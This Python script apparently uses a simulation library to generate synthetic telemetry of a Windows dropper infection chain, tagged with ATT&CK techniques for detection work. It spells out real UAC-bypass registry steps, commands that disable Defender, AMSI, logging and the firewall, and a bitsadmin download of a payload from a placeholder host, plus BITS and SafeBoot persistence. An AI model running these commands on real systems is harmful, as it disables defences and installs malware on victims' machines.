"""From a disk image: a dropper gets past UAC twice, becomes SYSTEM with a stolen token, switches Defender, log and firewall
off and has BITS fetch its last stage and run it. Resembles loaders of 2023-2025 (Bumblebee, GootLoader's heirs, Qilin's
droppers)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2023-04-18T15:17:09", "user": "LOGISTIK\\a.weber", "home": "C:\\Users\\a.weber", "computer": "LOGISTIK",
           "os_version": (10, 0, 19044)}
CLASSES = r"HKCU\Software\Classes"
POLICY = r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"
SYSTEM = {"user": "NT AUTHORITY\\SYSTEM", "integrity": "System", "sid": "S-1-5-18"}
SERVER = ("203.0.113.55", 80)


def story(c):
    desktop = Desktop(c)
    c.host(SERVER[0], "cdn.spedition-nord.example")
    bits = c.system(c.system_root + r"\System32\svchost.exe",
                    c.system_root + r"\System32\svchost.exe -k netsvcs -p -s BITS", parent=desktop.services)
    appinfo = c.system(c.system_root + r"\System32\svchost.exe",
                       c.system_root + r"\system32\svchost.exe -k netsvcs -p -s Appinfo",
                       parent=desktop.services)
    launcher = c.system(c.system_root + r"\System32\svchost.exe",
                        c.system_root + r"\system32\svchost.exe -k DcomLaunch -p", parent=desktop.services)
    firewall = c.process(c.system_root + r"\System32\svchost.exe", desktop.services, started_before=True, session=0,
                         command_line=r"C:\Windows\system32\svchost.exe -k LocalServiceNoNetworkFirewall -p -s MpsSvc",
                         user="NT AUTHORITY\\LOCAL SERVICE", sid="S-1-5-19", integrity="System", **deeds.MICROSOFT)
    desktop.murmur(6)
    sample = c.spawn(desktop.explorer, r"E:\Frachtbrief_4471.exe", directory="E:\\", is_64bit=False)
    deeds.begin(c, sample)
    copy = c.home + r"\AppData\Local\Temp\wrk32.exe"
    c.read(sample, sample.image, 180_000)
    c.drop(sample, copy, 180_000)
    with deeds.told(c, "gets past UAC by the class that a program of Windows asks", "high", "T1548.002",
                    (sample, appinfo),
                    ("ms-settings", "DelegateExecute", "fodhelper")) as helpers:
        key = CLASSES + r"\ms-settings\Shell\Open\command"
        c.key(sample, key, new=True)
        c.set_value(sample, key + r"\(Default)", "REG_SZ", copy + " -e")
        c.set_value(sample, key + r"\DelegateExecute", "REG_SZ", "")
        helper = deeds.tool(c, sample, r"C:\Windows\System32\fodhelper.exe", integrity="High")
        c.query(helper, key + r"\DelegateExecute", "REG_SZ", "")
        raised = c.spawn(helper, copy, copy + " -e", is_64bit=False)
        helpers += [helper, raised]
        c.exit(helper)
    with c.behaviour("removes the class again", "low", ("T1112", "T1070", "T1070.009"), sample, "ms-settings"):
        c.delete_key(sample, CLASSES + r"\ms-settings\Shell\Open\command")
        c.delete_key(sample, CLASSES + r"\ms-settings")
    deeds.begin(c, raised)
    with deeds.told(c, "has a COM object start a command with an administrator's rights", "high",
                    ("T1548.002", "T1559.001"), (sample, launcher),
                    ("3E5FC7F9-9A51-4367-9063-A120244FBEC7", "ConsentPromptBehaviorAdmin")) as helpers:
        host = deeds.tool(c, launcher, r"C:\Windows\system32\DllHost.exe "
                                       r"/Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}", user=c.user,
                          integrity="High", session=1, sid=desktop.explorer.sid)
        c.load(host, r"C:\Windows\System32\cmlua.dll")
        policy = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System"
        helpers += [host] + deeds.command(c, host,
                                          r"reg.exe add %s /v ConsentPromptBehaviorAdmin /t REG_DWORD /d 0 /f" % policy,
                                          shell=False)
        c.set_value(helpers[-1], policy + r"\ConsentPromptBehaviorAdmin", "REG_DWORD", 0)
        c.exit(host)
    with c.behaviour("switches UAC off", "high", ("T1548.002", "T1112", "T1685"), raised, "EnableLUA"):
        c.set_value(raised, r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\EnableLUA", "REG_DWORD", 0)
    c.exit(sample)
    with deeds.told(c, "becomes SYSTEM with the token of a process of Windows", "high",
                    ("T1134.002", "T1134.001", "T1134"), raised, "wrk32.exe") as helpers:
        top = c.spawn(raised, copy, copy + " -s", is_64bit=False, **SYSTEM)
        helpers.append(top)
    deeds.begin(c, top)
    c.exit(raised)
    desktop.murmur(3)
    with c.behaviour("switches Defender off by policy", "high", "T1685", top,
                     ("DisableAntiSpyware", "DisableRealtimeMonitoring", "DisableBehaviorMonitoring")):
        c.key(top, POLICY + r"\Real-Time Protection", new=True)
        c.set_value(top, POLICY + r"\DisableAntiSpyware", "REG_DWORD", 1)
        for name in ("DisableRealtimeMonitoring", "DisableBehaviorMonitoring", "DisableOnAccessProtection"):
            c.set_value(top, POLICY + r"\Real-Time Protection" + "\\" + name, "REG_DWORD", 1)
    with deeds.told(c, "switches parts of Defender off by PowerShell", "high", ("T1685", "T1059.001"), top,
                    ("Set-MpPreference", "MAPSReporting")) as helpers:
        helpers += deeds.command(c, top,
                                 "powershell.exe -ep bypass Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2 "
                                 "-DisableIOAVProtection $true", shell=False)
    with c.behaviour("takes the scanner of scripts away", "high", ("T1685", "T1112"), top,
                     "2781761E-28E0-4109-99FE-B9D127C57AFE"):
        c.delete_key(top, r"HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}")
    with deeds.told(c, "removes Defender's signatures", "high", "T1685", top, ("MpCmdRun", "RemoveDefinitions")) as helpers:
        cleaner = c.spawn(top, r"C:\Program Files\Windows Defender\MpCmdRun.exe",
                          r'"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All',
                          **deeds.MICROSOFT)
        c.exit(cleaner)
        helpers.append(cleaner)
    with deeds.told(c, "switches the log of PowerShell and of security off", "high", ("T1685.001", "T1685"), top,
                    ("wevtutil", "PowerShell/Operational", "auditpol")) as helpers:
        helpers += deeds.command(c, top, "wevtutil.exe sl Microsoft-Windows-PowerShell/Operational /e:false", shell=False)
        c.set_value(helpers[-1], r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels"
                                 r"\Microsoft-Windows-PowerShell/Operational\Enabled",
                    "REG_DWORD", 0)
        helpers += deeds.command(c, top, "auditpol.exe /clear /y", shell=False)
    with deeds.told(c, "switches the firewall off", "high", ("T1686.003", "T1686"), top,
                    ("advfirewall", "EnableFirewall", "state off")) as helpers:
        helpers += deeds.command(c, top, "netsh.exe advfirewall set allprofiles state off", shell=False)
        for name in ("DomainProfile", "StandardProfile", "PublicProfile"):
            c.set_value(firewall, r"HKLM\System\CurrentControlSet\Services\SharedAccess\Parameters\FirewallPolicy\%s"
                                  r"\EnableFirewall" % name, "REG_DWORD", 0)
    target = r"C:\ProgramData\srvhst.exe"
    with deeds.told(c, "has BITS fetch its last stage", "high", ("T1197", "T1105"), (top, bits),
                    ("bitsadmin", "srvhst.exe", "spedition-nord.example")) as helpers:
        helpers += deeds.command(c, top,
                                 "bitsadmin.exe /transfer upd /download /priority foreground "
                                 "http://cdn.spedition-nord.example/p/sv.bin " + target, shell=False)
        desktop.resolve()
        c.exchange(bits, SERVER, 51710, [310, 330], [14_600] * 20)
        c.drop(bits, r"C:\ProgramData\BIT6A1E.tmp", 290_000)
        c.attributes(bits, r"C:\ProgramData\BIT6A1E.tmp", 0x22)
        c.rename(bits, r"C:\ProgramData\BIT6A1E.tmp", target)
    with deeds.told(c, "leaves a BITS job that starts a program when it ends", "high", "T1197", (top, bits),
                    ("SetNotifyCmdLine", "bitsadmin")) as helpers:
        for line in ("/create sync", r"/addfile sync C:\Windows\System32\calc.exe C:\ProgramData\c.tmp",
                     r"/SetNotifyCmdLine sync %s NULL" % target, "/resume sync"):
            helpers += deeds.command(c, top, "bitsadmin.exe " + line, shell=False)
    last = c.spawn(bits, target, target, is_64bit=False, user=c.user, integrity="High", session=1, sid=desktop.explorer.sid)
    deeds.begin(c, last)
    with c.behaviour("has Windows start safely with its service too", "high", ("T1688", "T1543.003", "T1112"), last,
                     ("SafeBoot", "srvhst")):
        deeds.service(c, desktop, "srvhst", target)
        c.key(last, r"HKLM\System\CurrentControlSet\Control\SafeBoot\Minimal\srvhst", new=True)
        c.set_value(last, r"HKLM\System\CurrentControlSet\Control\SafeBoot\Minimal\srvhst\(Default)", "REG_SZ", "Service")
    with c.behaviour("asks its server again and again", "low", ("T1071.001", "T1071"), last, "cdn.spedition-nord.example"):
        for number in range(4):
            c.exchange(last, SERVER, 51720 + number, [240], [170])
            c.wait(15)
    with deeds.told(c, "deletes its first copy", "medium", "T1070.004", top, ("wrk32.exe", "del ")) as helpers:
        shell = deeds.tool(c, top, r'cmd.exe /c timeout 3 & del /f /q "%s"' % copy)
        c.exit(top)
        helpers += [shell] + deeds.command(c, shell, "timeout 3", shell=False)
        c.delete(shell, copy)
        c.exit(shell)
    desktop.murmur(4)
